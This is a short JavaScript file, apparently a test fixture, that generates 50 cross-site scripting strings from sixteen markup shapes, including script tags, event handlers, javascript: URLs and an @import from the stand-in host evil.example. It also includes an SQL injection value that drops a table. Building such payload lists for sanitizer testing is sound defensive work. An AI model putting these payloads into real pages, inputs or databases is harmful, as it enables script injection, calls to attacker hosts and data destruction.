// Names with markup in them, as somebody would write them who wants a page to run or to load something.
const does = ['alert(1)', 'window.hacked=1', "fetch('//evil.example')"]
const shapes = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `"><svg onload=${js}>`,
  (js) => `'><iframe src="javascript:${js}">`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<math><mi xlink:href="javascript:${js}">`,
  (js) => `<style>@import "//evil.example/${js}"</style>`,
  (js) => `\${${js}}{{${js}}}`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `<b onmouseover=${js}>bold</b>`,
  (js) => `--><!-- <body onload=${js}> -->`,
  (js) => `javascript:${js}//<object data=x>`,
]

/** 50 of them, each another one. */
export const payloads = [...shapes.flatMap((shape) => does.map((js, i) => `${i} ${shape(js)}`)), '<!--', "'; DROP TABLE jobs; --<x>"]
